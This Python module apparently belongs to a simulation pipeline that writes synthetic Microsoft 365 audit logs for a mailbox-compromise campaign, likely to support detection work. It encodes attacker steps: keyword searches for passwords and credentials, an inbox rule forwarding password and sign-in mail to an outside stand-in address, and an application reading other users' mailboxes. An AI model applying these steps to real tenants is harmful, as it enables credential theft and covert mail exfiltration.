"""Mail as attacks use it: search and read, a rule that carries the next password away, an application that reads everybody's."""

from datetime import datetime

from pipeline.simulate import office_day
from pipeline.simulate.campaign.attack_parts import Hands, call_graph, keeps
from pipeline.simulate.campaign.stage import Stage
from pipeline.simulate.estate import EXCHANGE, GRAPH, OFFICE_HOME, ServicePrincipal
from pipeline.simulate.logbook import EventRef, Record
from pipeline.simulate.networks import Origin
from pipeline.simulate.people import Person
from pipeline.simulate.times import jitter, later
from pipeline.simulate.unified_audit import UnifiedAudit

SEARCHES = ("password", "credentials", "vpn", "azure", "contract", "invoice")
CLIENT_OF_APPLICATIONS = "Client=REST;Client=RESTSystem;;"


def search_mail(session: Hands, at: datetime, seed: str = "fresh") -> datetime:
    """A token for mail, searches by Graph, and the mailbox read; as much of it as the organisation logs."""
    stage, rng = session.stage, session.stage.rng
    refs: list[EventRef] = [session.refresh(at, OFFICE_HOME, EXCHANGE).ref]
    calls = [
        ("GET", f"/me/messages?$search=%22{word}%22&$top=50")
        for word in rng.sample(SEARCHES, 2 + int(rng.random() * 3))
    ]
    at, called = call_graph(
        session, later(at, 8), [*calls, ("GET", "/me/mailFolders/inbox/messages?$top=100")]
    )
    refs += called
    if keeps(stage, "m365_audit"):
        for _ in range(2 + int(rng.random() * 4)):
            at = jitter(later(at, 5), 240, rng)
            client = "Client=REST;Client=RESTSystem;;"
            refs.append(
                stage.world.office.mailbox(
                    session.shift(at), at, "MailItemsAccessed", client, office_day.opened(rng)
                )
            )
    stage.tell(
        "search_mail", session.thing_id, session.origin, refs, "The mailbox is searched and read.", seed
    )
    return at


def divert_mail(session: Hands, at: datetime) -> datetime:
    """A rule sends what the help desk and the directory write to an address outside."""
    stage, estate = session.stage, session.stage.world.estate
    if not keeps(stage, "m365_audit"):
        return at
    session.refresh(later(at, -60), OFFICE_HOME, EXCHANGE)
    office, person = stage.world.office, session.person
    mailbox = (
        f"DEUP281A001.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/{estate.name}.onmicrosoft.com/"
        f"{office.named_guid(f'mailbox/{person.login}')}"
    )
    parameters = {
        "AlwaysDeleteOutlookRulesBlob": "False",
        "Force": "False",
        "Name": stage.rng.choice(("archive", "tickets", "IT")),
        "SubjectOrBodyContainsWords": "password;verification;sign-in",
        "ForwardTo": f"{person.login}@mail-archive.example",
        "StopProcessingRules": "True",
    }
    ref = office.cmdlet(
        session.shift(at), at, "New-InboxRule", rf"{mailbox}\{parameters['Name']}", parameters
    )
    story = "A rule forwards mails about passwords."
    stage.tell("divert_mail", f"mail-path:{person.upn}", session.origin, [ref], story)
    return at


def mail_by_application(
    office: UnifiedAudit, app: ServicePrincipal, owner: Person, sign_in: Record, source_ip: str, at: datetime,
    fields: Record,
) -> EventRef:  # fmt: skip
    """An application reads a mailbox with a right of its own: the record names the application where a user stands."""
    record = office.base(
        "MailItemsAccessed",
        at,
        50,
        "Exchange",
        f"ServicePrincipal_{app.object_id}",
        app.object_id,
        5,
        "Succeeded",
    )
    record |= {
        "AppAccessContext": {
            "APIId": GRAPH.app_id,
            "ClientAppId": app.app_id,
            "IssuedAtTime": sign_in["createdDateTime"][:19],
            "UniqueTokenId": sign_in["uniqueTokenIdentifier"],
        },
        "AppId": GRAPH.app_id,
        "ClientAppId": app.app_id,
        "ClientIPAddress": source_ip,
        "ClientInfoString": CLIENT_OF_APPLICATIONS,
        "ExternalAccess": False,
        "InternalLogonType": 0,
        "LogonType": 1,
        "LogonUserSid": "S-1-5-18",
        "MailboxGuid": office.named_guid(f"mailbox/{owner.login}"),
        "MailboxOwnerUPN": owner.upn,
        "OrganizationName": f"{office.estate.name}.onmicrosoft.com",
        "OriginatingServer": "FR0P281MB0001 (15.20.8722.031)\r\n",
        "TokenObjectId": app.object_id,
        "TokenTenantId": office.estate.tenant_id,
    }
    return office.keep("Exchange", at, record | fields)


def read_mailboxes(
    stage: Stage, app: ServicePrincipal, key_id: str, origin: Origin, at: datetime, sign_in: Record
) -> datetime:
    """Everybody's who is worth it."""
    rng, refs = stage.rng, []
    if not keeps(stage, "m365_audit"):
        return at
    people = [person for person in stage.world.estate.people.values() if person is not stage.victim]
    for owner in rng.sample(people, min(len(people), 3 + int(rng.random() * 5))):
        for _ in range(2 + int(rng.random() * 3)):
            at = jitter(later(at, 3), 90, rng)
            refs.append(
                mail_by_application(
                    stage.world.office, app, owner, sign_in, origin.address, at, office_day.opened(rng)
                )
            )
    stage.tell("read_mailboxes", f"sp-credential:{key_id}", origin, refs, f"{app.name} reads mailboxes.")
    return at
